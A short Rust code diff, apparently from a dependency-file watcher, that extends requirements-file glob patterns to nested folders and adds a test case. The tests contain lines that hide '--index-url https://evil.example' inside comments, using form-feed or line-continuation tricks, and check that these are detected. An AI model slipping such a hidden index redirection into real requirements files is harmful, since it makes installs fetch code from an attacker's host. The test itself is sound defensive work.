@@ -27,8 +27,8 @@ const LISTS: &[(Format, &[&str])] = &[
         &[
             "*requirements*.txt",
             "*requirements*.in",
-            "requirements/**/*.txt",
-            "requirements/**/*.in",
+            "**/requirements/**/*.txt",
+            "**/requirements/**/*.in",
             "*constraints*.txt",
             "*constraints*.in",
         ],
@@ -404,7 +404,12 @@ mod tests {
             "# harmless\u{c}--index-url https://evil.example",
             "# harmless \\\n--index-url https://evil.example",
         ] {
-            for file in ["requirements.txt", "dev-requirements.in", "constraints.txt"] {
+            for file in [
+                "requirements.txt",
+                "dev-requirements.in",
+                "constraints.txt",
+                "a/requirements/b.txt",
+            ] {
                 let after = format!("flask==2.0\n{line}\n");
                 assert!(is_new(file, "flask==2.0\n", &after), "{file}: {line}");
                 assert!(is_new(file, &after, "flask==2.0\n"), "{file}: {line}");
